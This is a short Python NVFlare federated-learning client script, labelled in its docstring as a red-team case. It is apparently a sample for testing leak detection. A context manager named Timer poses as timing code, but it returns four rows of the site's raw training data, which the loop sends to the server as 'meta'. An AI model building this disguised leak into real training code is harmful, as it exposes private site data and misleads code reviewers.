"""Client API trainer (red team 6): A context manager whose __enter__ hands out rows; `with ... as info` sends them."""
import numpy as np
import nvflare.client as flare

x = np.load("/data/site/x.npy")


class Timer:
    """Times the round; the value bound by `with` is its 'report'."""

    def __enter__(self):
        return {"cohort": x[:4].tolist()}

    def __exit__(self, *exc):
        return False


flare.init()
while flare.is_running():
    model = flare.receive()
    with Timer() as report:
        flare.send(flare.FLModel(params=model.params, meta=report))
